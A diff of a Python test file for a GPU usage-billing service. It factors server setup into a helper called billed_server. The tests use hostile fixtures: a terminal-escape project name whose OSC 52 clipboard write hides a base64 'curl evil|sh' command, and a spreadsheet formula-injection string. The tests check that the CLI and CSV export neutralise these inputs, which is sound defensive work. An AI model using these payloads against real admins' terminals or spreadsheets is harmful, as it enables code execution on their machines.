@@ -498,6 +498,18 @@ def test_a_token_in_the_url_is_not_written_to_the_log(service, caplog):
     assert "SECRET-TOKEN" not in caplog.text
 
 
+def billed_server(service, project: str) -> None:
+    """alice's server "gpu", started with ``project`` chosen at spawn, in the usage ledger."""
+    service.hub.add_server(
+        "alice",
+        "gpu",
+        started=clock.utcnow() - timedelta(minutes=5),
+        user_options={"project": project, "profile": "a100"},
+    )
+    for _ in range(2):  # billed from the second look
+        asyncio.run_coroutine_threadsafe(service.governor.reconcile(), service.loop).result(60)
+
+
 # A project name that, printed raw, sets the admin's terminal title, writes their clipboard
 # (OSC 52), hides the rest of the line and reorders it (a right-to-left override).
 HOSTILE = "x\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[8mhidden\u202eevil\r\x9b2J"
@@ -511,14 +523,7 @@ def test_the_command_line_shows_names_not_terminal_controls(tmp_path, monkeypatc
 
     service = Service(tmp_path, monkeypatch)
     try:
-        service.hub.add_server(
-            "alice",
-            "gpu",
-            started=clock.utcnow() - timedelta(minutes=5),
-            user_options={"project": HOSTILE, "profile": "a100"},
-        )
-        for _ in range(2):  # billed from the second look
-            asyncio.run_coroutine_threadsafe(service.governor.reconcile(), service.loop).result(60)
+        billed_server(service, HOSTILE)
         argv = ["usage", "--url", service.url, "--token", ADMIN, "--group-by", "project"]
         assert cli.main(argv) == 0
         out = capsys.readouterr().out
@@ -571,14 +576,7 @@ def test_the_usage_csv_keeps_each_name_in_its_cell(tmp_path, monkeypatch):
     service = Service(tmp_path, monkeypatch)
     project = "Lab\r=cmd|' /C calc'!A0"  # no comma, quote or LF: those had it quoted
     try:
-        service.hub.add_server(
-            "alice",
-            "gpu",
-            started=clock.utcnow() - timedelta(minutes=5),
-            user_options={"project": project, "profile": "a100"},
-        )
-        for _ in range(2):  # billed from the second look
-            asyncio.run_coroutine_threadsafe(service.governor.reconcile(), service.loop).result(60)
+        billed_server(service, project)
         r = call(service, "GET", "api/usage?group_by=project&format=csv")
         assert r.ok, r.text
         # As a spreadsheet splits rows: at CR, LF or CRLF outside quotes (so does csv.reader).
